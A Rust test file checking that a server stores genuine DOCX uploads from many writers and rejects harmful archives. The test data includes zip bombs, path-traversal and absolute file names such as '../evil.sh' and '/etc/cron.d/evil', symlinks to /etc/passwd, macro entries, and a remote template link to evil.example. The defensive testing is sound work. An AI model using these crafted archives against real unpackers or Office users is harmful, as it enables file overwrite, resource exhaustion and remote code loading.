//! DOCX, by the ZIP directory alone: what every known writer writes is stored, what would harm whoever unpacks it is not.

use app::wire::DOCUMENT_FIELD;
use app::wire::FileType::DocsFile;

use crate::refusal::Refusal;
use crate::support::client::Form;
use crate::support::fixture::Fixture;
use crate::support::sample::{self, KIB, MIB, word_parts};
use crate::support::zip::{DESCRIPTOR, DOS, Entry, UNIX, UTF8, Zip};

const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn form(content: &[u8]) -> Form {
    Form::new().file(DOCUMENT_FIELD, "a.docx", content).size(DocsFile, content.len())
}

/// A document's parts in the order of `names`; what is not among [`word_parts`] is a directory, or has some content.
fn package(names: &[&str], entry: fn(&str, &[u8]) -> Entry) -> Zip {
    let parts = word_parts();
    let content = |name: &str| parts.iter().find(|(part, _)| *part == name).map(|(_, content)| *content);
    Zip::of(names.iter().map(|name| match name.ends_with('/') {
        true => Entry::stored(name, b""),
        false => {
            entry(name, content(name).unwrap_or(if name.ends_with(".rels") { NO_RELATION } else { b"<x/>" }))
        }
    }))
}

const NO_RELATION: &[u8] =
    br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>"#;

/// The smallest document there is.
fn word() -> Zip {
    package(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"], Entry::deflated)
}

/// Word: types first, with room to grow behind their local header; "super fast" in the flags.
fn by_word() -> Zip {
    let names = [
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/theme/theme1.xml",
        "word/settings.xml",
        "word/styles.xml",
        "word/webSettings.xml",
        "word/fontTable.xml",
        "docProps/core.xml",
        "docProps/app.xml",
    ];
    let mut zip = package(&names, Entry::deflated).each(|entry| entry.flags = 0b110);
    let room = [&b"\x20\xa2\x04\x02\x28\xa0\0\x01"[..], &[0; 0x200]].concat();
    zip.entries[0].local_extra = room.clone();
    zip.entries[1].local_extra = room;
    zip
}

/// LibreOffice 7.4, as it was found: a stream, the types last but one.
fn by_libreoffice() -> Zip {
    let names = [
        "docProps/core.xml",
        "docProps/app.xml",
        "docProps/custom.xml",
        "word/_rels/document.xml.rels",
        "word/document.xml",
        "word/theme/theme1.xml",
        "word/numbering.xml",
        "word/fontTable.xml",
        "word/settings.xml",
        "_rels/.rels",
        "customXml/_rels/item1.xml.rels",
        "customXml/item1.xml",
        "[Content_Types].xml",
        "word/styles.xml",
    ];
    package(&names, Entry::deflated).each(|entry| entry.flags = DESCRIPTOR | UTF8)
}

/// Google Docs: a stream of Java's, the types last.
fn by_google() -> Zip {
    let names = [
        "word/numbering.xml",
        "word/settings.xml",
        "word/fontTable.xml",
        "word/styles.xml",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "_rels/.rels",
        "word/theme/theme1.xml",
        "[Content_Types].xml",
    ];
    package(&names, Entry::deflated).each(|entry| entry.flags = DESCRIPTOR | UTF8)
}

/// pandoc 2.17, as it was found: "made by" version 0.
fn by_pandoc() -> Zip {
    let names = [
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/footnotes.xml",
        "docProps/core.xml",
        "word/theme/theme1.xml",
    ];
    package(&names, Entry::deflated).each(|entry| (entry.flags, entry.made_by) = (UTF8 | 0b10, 0))
}

/// python-docx 1.2, as it was found: from Unix, with a mode but no kind of file.
fn by_python() -> Zip {
    let names = [
        "[Content_Types].xml",
        "_rels/.rels",
        "docProps/core.xml",
        "word/document.xml",
        "word/media/image1.png",
        "docProps/thumbnail.jpeg",
    ];
    package(&names, Entry::deflated).each(|entry| (entry.made_by, entry.attributes) = (UNIX, 0x0180_0000))
}

/// Info-ZIP and 7-Zip, by which a document was taken apart and put together again: directories, times, owners.
fn by_hand(made_by: u16, extra: &[u8]) -> Zip {
    let names = [
        "word/",
        "word/document.xml",
        "word/_rels/",
        "word/_rels/document.xml.rels",
        "_rels/",
        "_rels/.rels",
        "[Content_Types].xml",
    ];
    package(&names, Entry::deflated).each(|entry| {
        let is_directory = entry.name.ends_with('/');
        (entry.made_by, entry.central_extra) = (made_by, extra.to_vec());
        entry.attributes = match (made_by == UNIX, is_directory) {
            (true, true) => 0o040_755 << 16 | 0x10,
            (true, false) => 0o100_644 << 16,
            (false, is_directory) => {
                if is_directory {
                    0x10
                } else {
                    0x20
                }
            }
        };
    })
}

/// Apache POI's streams: numbers of 64 bits for entries that would need 32.
fn by_poi() -> Zip {
    let zip = by_google().each(|entry| entry.is_long = true);
    Zip { long_end: Some(false), ..zip }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_documents_of_every_writer_are_stored() {
    let fixture = Fixture::start().await;
    let medium = Entry::stored("word/media/video.mp4", &sample::noise(6 * MIB));
    let writers = [
        ("Word", by_word()),
        ("Word, 6 MiB", by_word().with(medium.clone())),
        ("LibreOffice", by_libreoffice()),
        ("LibreOffice, 6 MiB", Zip::of([medium.clone()].into_iter().chain(by_libreoffice().entries))),
        ("Google Docs", by_google()),
        ("pandoc", by_pandoc()),
        ("python-docx", by_python()),
        ("Info-ZIP", by_hand(UNIX, b"UT\x05\0\x03\0\0\0\0ux\x0b\0\x01\x04\0\0\0\0\x04\0\0\0\0")),
        ("7-Zip", by_hand(DOS, &[&b"\x0a\0\x20\0\0\0\0\0\x01\0\x18\0"[..], &[7; 24]].concat())),
        ("POI", by_poi()),
        ("POI, 6 MiB", by_poi().with(Entry { is_long: true, ..medium })),
        ("64-bit numbers only", Zip { long_end: Some(true), ..by_poi() }),
        (
            "nothing packed",
            package(&["[Content_Types].xml", "_rels/.rels", "word/document.xml"], Entry::stored),
        ),
        (
            "JSZip",
            package(
                &["[Content_Types].xml", "_rels/", "_rels/.rels", "word/", "word/document.xml"],
                Entry::stored,
            ),
        ),
        (
            "a type before all",
            Zip::of([Entry::stored("mimetype", WORD.as_bytes())].into_iter().chain(word().entries)),
        ),
        (
            "names of other scripts",
            word().with(Entry { flags: UTF8, ..Entry::deflated("word/media/文書.png", b"x") }),
        ),
        ("a name with dots", word().with(Entry::deflated("word/media/a..b...png", b"x"))),
        (
            "3,000 formulas",
            (0..6000)
                .fold(word(), |zip, n| zip.with(Entry::stored(&format!("word/media/image{n}.wmf"), b"x"))),
        ),
        (
            "3,000 formulas by POI",
            (0..6000).fold(by_poi(), |zip, n| {
                zip.with(Entry { is_long: true, ..Entry::stored(&format!("word/media/image{n}.wmf"), b"x") })
            }),
        ),
        ("white paper, 60 MiB unpacked", word().with(Entry::zeros("word/media/scan.bmp", 60 * MIB))),
        ("hyperlinks", word().with(Entry::deflated("word/_rels/document.xml.rels", EXTERNAL))),
    ];
    for (writer, zip) in writers {
        println!("{writer}");
        let content = zip.bytes();
        for form in [form(&content), form(&content).without_sizes()] {
            let file = form.post(fixture.server).await.stored_one();
            assert_eq!(file.content_type.as_deref(), Some(WORD), "{writer}");
            let object = fixture.take_stored(&file, &content).await;
            assert_eq!(object.content_disposition.as_deref(), Some("attachment; filename=\"a.docx\""));
        }
    }
    fixture.finish().await;
}

/// Every link to a web page is an external relationship; so is a template that Word fetches. They differ only in what
/// is packed, which nobody looks at: the document is stored, as an attachment.
const EXTERNAL: &[u8] = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_an_external_relationship_is_packed_and_not_looked_for() {
    let fixture = Fixture::start().await;
    let content = word().with(Entry::deflated("word/_rels/settings.xml.rels", EXTERNAL)).bytes();
    let file = form(&content).post(fixture.server).await.stored_one();
    let object = fixture.take_stored(&file, &content).await;
    assert!(object.content_disposition.unwrap().starts_with("attachment"));
    fixture.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_what_is_no_document() {
    let named = |name: &str| package(&["[Content_Types].xml", "_rels/.rels", name], Entry::deflated).bytes();
    refused(
        415,
        "type_mismatch",
        [
            ("noise", sample::noise(100 * KIB)),
            ("a ZIP's first bytes, then noise", [&b"PK\x03\x04"[..], &sample::noise(100 * KIB)].concat()),
            ("another archive", sample::zip()),
            ("a workbook", named("xl/workbook.xml")),
            ("a presentation", named("ppt/presentation.xml")),
            ("cut", word().bytes()[..300].to_vec()),
            ("something behind", [&word().bytes()[..], b"PK"].concat()),
            (
                "an old Word file",
                [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &sample::noise(10 * KIB)].concat(),
            ),
            ("two directories", two_directories()),
        ],
    )
    .await;
}

/// An archive whose two end records point to different directories, of which readers choose one.
fn two_directories() -> Vec<u8> {
    let mut file = Zip { long_end: Some(false), ..word() }.bytes();
    let long = file.windows(4).rposition(|four| four == b"PK\x06\x06").unwrap();
    file[long + 48] ^= 1;
    file
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_bombs_are_refused_by_what_the_directory_says() {
    let claims = |unpacked: u64| Entry { unpacked, ..Entry::deflated("word/media/a.bin", &[0; 1000]) };
    let long = |unpacked: u64| Entry { is_long: true, ..claims(unpacked) };
    let large = word().with(Entry::stored("word/media/a.bin", &[0; 100_000])).bytes();
    refused(
        415,
        "type_mismatch",
        [
            ("70 MiB of zeros", word().with(Entry::zeros("word/media/a.bin", 70 * MIB)).bytes()),
            ("3 GiB in one entry", word().with(claims(3 << 30)).bytes()),
            ("16 EiB in one entry", word().with(long(u64::MAX)).bytes()),
            ("16 EiB in two", word().with(long(u64::MAX / 2)).with(long(u64::MAX / 2 + 2)).bytes()),
            (
                "60 MiB in each of a hundred",
                (0..100).fold(word(), |zip, _| zip.with(claims(60 << 20))).bytes(),
            ),
            ("entries that overlap", repeated(&large, 50)),
            (
                "20,000 entries",
                (0..20_000).fold(word(), |zip, n| zip.with(Entry::stored(&n.to_string(), b""))).bytes(),
            ),
            (
                "65,000 entries",
                (0..65_000).fold(word(), |zip, n| zip.with(Entry::stored(&n.to_string(), b""))).bytes(),
            ),
        ],
    )
    .await;
}

/// The archive with its last entry listed `times` more often: the same bytes, unpacked once for each.
fn repeated(archive: &[u8], times: usize) -> Vec<u8> {
    let (body, end) = archive.split_at(archive.len() - 22);
    let last = body.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    let entry = &body[last..];
    let mut end = end.to_vec();
    let count = u16::from_le_bytes([end[10], end[11]]) + times as u16;
    let len = u32::from_le_bytes([end[12], end[13], end[14], end[15]]) + (entry.len() * times) as u32;
    end.splice(8..16, [&count.to_le_bytes()[..], &count.to_le_bytes(), &len.to_le_bytes()].concat());
    [body, &entry.repeat(times), &end].concat()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_entries_that_lead_elsewhere() {
    let link = |made_by: u16, name: &str| Entry {
        made_by,
        attributes: 0o120_777 << 16,
        ..Entry::stored(name, b"/etc/passwd")
    };
    let named = |name: &str| word().with(Entry::deflated(name, b"x")).bytes();
    refused(
        415,
        "type_mismatch",
        [
            ("a link", word().with(link(UNIX, "word/media/a.png")).bytes()),
            ("a link that is not from Unix", word().with(link(DOS, "word/media/a.png")).bytes()),
            ("the document is a link", {
                let zip = word();
                Zip::of(zip.entries.into_iter().take(2)).with(link(UNIX, "word/document.xml")).bytes()
            }),
            ("up", named("../evil.sh")),
            ("up from within", named("word/../../evil.sh")),
            ("up at the end", named("word/media/..")),
            ("absolute", named("/etc/cron.d/evil")),
            ("a backslash", named("word\\media\\a.png")),
            ("up by backslashes", named("..\\..\\evil.bat")),
            ("a share", named("\\\\server\\share\\evil.bat")),
            ("a drive", named("C:/evil.bat")),
            ("a drive without a root", named("c:evil.bat")),
            ("NUL", named("word/a.png\0.exe")),
        ],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn c10_macros_wherever_they_lie() {
    let with = |name: &str| word().with(Entry::deflated(name, b"\xd0\xcf\x11\xe0")).bytes();
    refused(
        415,
        "macros",
        [
            ("as Word writes it", with("word/vbaProject.bin")),
            ("in other letters", with("WORD/VBAPROJECT.BIN")),
            ("elsewhere", with("word/other/vbaProject.bin")),
            ("at the top", with("vbaProject.bin")),
            ("in a stream", by_libreoffice().with(Entry::deflated("word/vbaProject.bin", b"x")).bytes()),
            ("in 64-bit numbers", by_poi().with(Entry::deflated("word/vbaProject.bin", b"x")).bytes()),
            ("far behind", {
                let zip =
                    (0..6000).fold(word(), |zip, n| zip.with(Entry::stored(&format!("word/{n}.wmf"), b"x")));
                zip.with(Entry::deflated("word/vbaProject.bin", b"x")).bytes()
            }),
        ],
    )
    .await;
}

/// Each file is refused, with its size declared and without, and nothing of it is left.
async fn refused<const N: usize>(status: u16, code: &'static str, files: [(&str, Vec<u8>); N]) {
    let fixture = Fixture::start().await;
    for (name, content) in files {
        Refusal::of(&fixture, name, status, code).ends(DocsFile).leaves_nothing(form(&content)).await;
        Refusal::of(&fixture, name, status, code).ends(DocsFile).post(form(&content).without_sizes()).await;
    }
    fixture.finish().await;
}
